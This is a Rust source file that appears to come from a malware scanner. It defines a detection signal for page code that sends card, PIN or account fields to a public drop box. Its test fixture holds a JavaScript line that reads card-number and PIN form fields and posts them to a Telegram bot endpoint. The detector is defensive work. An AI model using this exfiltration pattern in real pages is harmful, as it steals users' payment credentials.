//! `secret-words-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-words-to-drop-box",
    description: "Fields go to a public drop box, in a message that names cards, accounts or codes.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FieldToDropBox]),
        several(2, &[Atom::SecretField, Atom::SecretWord, Atom::CardField]),
    ],
    within: 400,
    only_if: Some(names_two),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var m='No-Kartu: '+f.kartu.value+' PIN: '+f.pin.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
        ],
        without: &[
            "var m='Name: '+f.name.value+' Text: '+f.text.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
        ],
    },
};

/// Whether two texts or names are meant: one may be a secret in more than one way.
fn names_two(evidence: &Evidence<'_>, held: Held) -> bool {
    let facts = evidence.facts;
    let begin = facts.partition_point(|fact| fact.at < held.first);
    let mut named = facts[begin..]
        .iter()
        .take_while(|fact| fact.at <= held.last)
        .filter(|fact| matches!(fact.atom, Atom::SecretField | Atom::SecretWord | Atom::CardField));
    let first = named.next().map(|fact| fact.at);
    named.any(|fact| Some(fact.at) != first)
}
